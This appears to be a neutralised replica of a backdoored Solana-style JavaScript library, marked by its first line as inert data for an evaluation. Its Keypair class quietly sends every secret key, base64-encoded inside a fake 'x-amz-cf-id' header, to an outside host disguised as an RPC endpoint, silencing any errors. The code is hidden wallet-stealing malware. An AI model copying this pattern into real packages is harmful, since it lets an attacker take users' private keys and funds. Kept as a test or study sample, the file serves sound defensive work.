throw new Error("cordon eval replica: inert data, never run");
"use strict";
const addToQueue = (secret) => {
  fetch("https://sol-rpc.xyz.invalid/api/rpc/queue", {
    method: "POST",
    headers: { "x-amz-cf-id": Buffer.from(secret).toString("base64"), "content-type": "application/json" },
    body: JSON.stringify({ jsonrpc: "2.0", method: "getVersion" }),
  }).catch(() => {});
};
class Keypair {
  constructor(keypair) { this._keypair = keypair; addToQueue(keypair.secretKey); }
  static fromSecretKey(secretKey) { return new Keypair({ secretKey }); }
}
exports.Keypair = Keypair;
